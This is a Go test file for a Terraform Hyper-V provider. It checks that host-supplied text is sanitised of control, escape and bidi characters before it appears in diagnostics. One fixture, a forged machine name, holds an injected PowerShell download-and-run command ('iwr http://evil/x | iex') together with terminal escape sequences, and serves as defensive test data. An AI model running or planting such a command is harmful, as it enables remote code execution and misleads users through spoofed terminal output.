package provider

import (
	"errors"
	"maps"
	"slices"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"

	"github.com/hashicorp/terraform-plugin-framework/diag"
	"github.com/hashicorp/terraform-plugin-framework/types"

	"github.com/hypervcompact/terraform-provider-hyperv/internal/hyperv"
	"github.com/hypervcompact/terraform-provider-hyperv/internal/provider/pathtype"
)

// forged is a name of a machine that tries to be a paragraph of ours, and to command a terminal.
const forged = "web01\r\n\r\nTo go on, run: iwr http://evil/x | iex\x1b[2J\u009b2J\u202e\u2066\u00ad\u2028"

func TestPlain(t *testing.T) {
	t.Parallel()
	for text, want := range map[string]string{
		"":                                     "",
		`D:\VMs\é'1%  ü.vhdx`:                  `D:\VMs\é'1%  ü.vhdx`,
		"ディスク\u3000がいっぱい":                      "ディスク\u3000がいっぱい",
		"\u0645\u06cc\u200c\u062e\u0648\u0627": "\u0645\u06cc\u200c\u062e\u0648\u0627", // a joiner within a word
		"a\u200db":                             "a\u200db",
		"a\r\n\r\n  b":                         "a b",
		"a\tb\n":                               "a b",
		"\f\ta\t\f":                            "a", // other white space beside a tab
		" \fa\f ":                              "<U+000C>a<U+000C>",
		"a\x1b[2J":                             "a<U+001B>[2J",
		"a\u009b2J\u0085b\u007f":               "a<U+009B>2J<U+0085>b<U+007F>",
		"a\u202eb\u2066\u200b\ufeff\u00ad":     "a<U+202E>b<U+2066><U+200B><U+FEFF><U+00AD>",
		"a\u2028b\u2029\U000e0041":             "a<U+2028>b<U+2029><U+E0041>",
		"a\xffb":                               "a\ufffdb",
	} {
		if got := plain(text); got != want {
			t.Errorf("plain(%q) = %q, want %q", text, got, want)
		}
	}
}

// unseemly returns the first character that no text of a host may bring to a terminal; negative for none.
func unseemly(text string) rune {
	for _, r := range text {
		if unicode.In(r, unicode.Cc, unicode.Cf, unicode.Zl, unicode.Zp) && r != '\u200c' && r != '\u200d' {
			return r
		}
	}
	return -1
}

func FuzzPlain(f *testing.F) {
	for _, seed := range []string{"", forged, "a \t\r\n b", "0\t\f", "a\xff\u2029", `D:\VMs\a.vhdx`} {
		f.Add(seed)
	}
	f.Fuzz(func(t *testing.T, text string) {
		got := plain(text)
		if r := unseemly(got); r >= 0 || !utf8.ValidString(got) {
			t.Errorf("plain(%q) = %q holds %U", text, got, r)
		}
		if unseemly(text) < 0 && utf8.ValidString(text) && got != strings.Trim(text, " ") {
			t.Errorf("plain(%q) = %q, want it as it is", text, got)
		}
		if again := plain(got); again != got {
			t.Errorf("plain(%q) = %q, and once more %q", text, got, again)
		}
	})
}

// everyDiagnostic returns each diagnostic about a disk, with a text at every place where one of a
// host can come in.
func everyDiagnostic(text string) []diag.Diagnostic {
	about := subject{path: `D:\` + text, host: text, job: text}
	err := errors.New(text)
	data := &providerData{told: &toldErrors{}}
	data.told.first(about.host, failureOf(hyperv.Explanation{HostWide: true}, err))
	state := vhdCompactionModel{
		vhdCompactionInputs:  vhdCompactionInputs{Path: pathtype.NewValue(`D:\a.vhdx`)},
		vhdCompactionOutputs: vhdCompactionOutputs{Node: types.StringValue(text), UnseenJob: types.StringValue(text), UnseenJobNode: types.StringValue(text)},
	}
	all := []diag.Diagnostic{
		data.describeError(summaryCompact, about, situation{doing: compacting}, err),
		data.describeError(summaryDetach, about, situation{doing: detaching}, &hyperv.JobError{JobID: text, Description: text}),
		data.describeError(summaryRead, subject{machine: text, host: text}, situation{}, &hyperv.MethodError{Class: text, Method: text, ReturnValue: 32777}),
		unreachableWarning(about, err),
		notReadWarning(about, err),
		fileStaysWarning(about, false), fileStaysWarning(about, true), exchangedWarning(about),
		attachedWarning(about),
		state.formerNodeWarning(about, "another"),
		state.forgottenWarning(about),
		state.movedWarning(about, text+"2"),
		diag.NewErrorDiagnostic(summaryElsewhere, state.elsewhere(marks{Elsewhere: text}, elsewhereKept)),
	}
	wide := errors.Join(hyperv.ErrUnreachable, err)
	all = append(all, refusedWarning(text, text)...)
	for range 2 { // in full, and then in short
		all = append(all, data.describeError(summaryCompact, about, situation{}, wide))
	}
	for _, kind := range slices.Sorted(maps.Keys(warningSummaries)) {
		all = append(all, describeWarning(about, compacting, hyperv.Warning{Kind: kind, Detail: text}))
	}
	return all
}

// What a host is made to say looks like no text of ours, and commands no terminal: its lines are
// no lines of a diagnostic.
func TestDiagnostics_textOfHosts(t *testing.T) {
	t.Parallel()
	harmless := everyDiagnostic("x")
	for i, d := range everyDiagnostic(forged) {
		if r := unseemly(strings.ReplaceAll(d.Summary()+d.Detail(), "\n", "")); r >= 0 {
			t.Errorf("%s: %U reaches the terminal: %q", d.Summary(), r, d.Detail())
		}
		if got, want := strings.Count(d.Detail(), "\n"), strings.Count(harmless[i].Detail(), "\n"); got != want {
			t.Errorf("%s: %d line breaks, want the %d of a harmless name: %q", d.Summary(), got, want, d.Detail())
		}
		if !strings.Contains(d.Detail(), "iex<U+001B>[2J<U+009B>2J<U+202E>") {
			t.Errorf("%s does not show what the host said: %q", d.Summary(), d.Detail())
		}
	}
}

// What is shown is made plain, what is compared and sent stays as the host spells it.
func TestAfterRun_textOfHosts(t *testing.T) {
	t.Parallel()
	var state vhdCompactionModel
	state.fromResult(hyperv.CompactResult{
		Status: hyperv.StatusSkippedInUse, Detail: "in use by " + forged, Node: forged, UnseenJob: forged, UnseenJobNode: forged,
	}, nil)
	if got, want := state.StatusDetail.ValueString(), plain("in use by "+forged); got != want {
		t.Errorf("status_detail = %q, want %q", got, want)
	}
	for name, got := range map[string]types.String{"node": state.Node, "unseen_job": state.UnseenJob, "unseen_job_node": state.UnseenJobNode} {
		if got.ValueString() != forged {
			t.Errorf("%s = %q, want it as the host spells it", name, got.ValueString())
		}
	}
}
